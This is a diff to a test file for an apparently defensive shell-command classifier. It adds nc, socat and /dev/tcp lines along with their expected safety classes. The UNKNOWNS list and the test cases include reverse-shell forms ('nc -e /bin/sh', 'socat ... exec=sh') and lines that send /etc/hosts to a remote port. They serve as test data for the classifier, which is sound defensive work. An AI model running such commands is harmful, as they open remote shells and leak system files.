@@ -11,6 +11,11 @@ from faultyard.model.commands import Act, judge
 from faultyard.model.commands.programs import CHANGING, HIDING, READING
 
 READS = """
+nc -z 10.0.0.1 80
+nc -zv -w 3 mongodb-geo.hotel 27017
+nc -z -v -w3 10.0.0.1 80-90 443
+socat -u OPEN:/dev/null TCP:mongodb-geo:27017
+socat -d -d -T 3 -u /dev/null tcp4-connect:10.0.0.1:80,connect-timeout=3
 cat /etc/hosts
 ls -la /var/log
 ps aux
@@ -235,6 +240,19 @@ tee --output-error=warn /etc/hosts
 bash -c 'echo x > /etc/hosts; eval "$x"'
 """
 UNKNOWNS = """
+nc -z
+nc -zu 10.0.0.1 53
+nc -z -e /bin/sh 10.0.0.1 80
+nc -zl 10.0.0.1 80
+nc -zX connect 10.0.0.1 80
+nc -v -w 3 10.0.0.1 80
+socat - TCP:10.0.0.1:80
+socat -u - TCP:10.0.0.1:80
+socat -u /etc/hosts TCP:10.0.0.1:80
+socat -u OPEN:/dev/null TCP:10.0.0.1:80,exec=sh
+socat -u OPEN:/dev/null EXEC:sh
+socat -lf /etc/x -u OPEN:/dev/null TCP:10.0.0.1:80
+socat -u OPEN:/dev/null TCP-LISTEN:80
 mongosh --eval 'db.x.drop()'
 psql -c 'select 1'
 redis-cli get x
@@ -469,6 +487,22 @@ def test_what_starts_others_is_judged_by_them(line: str) -> None:
         ("echo x > /etc/x; echo x > /dev/tcp/10.0.0.1/80", Act.MIXED),
         ("{ echo x; } > /dev/tcp/10.0.0.1/80", Act.UNKNOWN),
         ("</dev/tcp/10.0.0.1/80", Act.STARTS),
+        ("cat < /dev/null > /dev/tcp/10.0.0.1/80", Act.STARTS),
+        ("cat </dev/null >/dev/tcp/$h/80 2>/dev/null && echo open || echo shut", Act.STARTS),
+        ("cat < /etc/hosts > /dev/tcp/10.0.0.1/80", Act.UNKNOWN),
+        ("cat > /dev/tcp/10.0.0.1/80", Act.UNKNOWN),
+        ("cat - < /dev/null > /dev/tcp/10.0.0.1/80", Act.UNKNOWN),
+        ("cat 3< /dev/null > /dev/tcp/10.0.0.1/80", Act.UNKNOWN),
+        ("cat < /dev/null < /etc/hosts > /dev/tcp/10.0.0.1/80", Act.UNKNOWN),
+        ("cat <<< /dev/null > /dev/tcp/10.0.0.1/80", Act.UNKNOWN),
+        ("cat /etc/hosts < /dev/null > /dev/tcp/10.0.0.1/80", Act.UNKNOWN),
+        ("echo > /dev/tcp/10.0.0.1/80", Act.STARTS),
+        ("(echo > /dev/tcp/10.0.0.1/80) 2>/dev/null && echo open || echo shut", Act.STARTS),
+        ("echo -n > /dev/tcp/10.0.0.1/80", Act.STARTS),
+        ("printf '' > /dev/tcp/10.0.0.1/80", Act.STARTS),
+        ("echo x > /dev/tcp/10.0.0.1/80", Act.UNKNOWN),
+        ('echo "$x" > /dev/tcp/10.0.0.1/80', Act.UNKNOWN),
+        ("echo -e 'a' > /dev/tcp/10.0.0.1/80", Act.UNKNOWN),
         (": </dev/tcp/10.0.0.1/$p", Act.STARTS),
         ('echo "$(ls > /etc/x)"', Act.CHANGE),
         ('echo "$(ls 2>/dev/null)"', Act.STARTS),
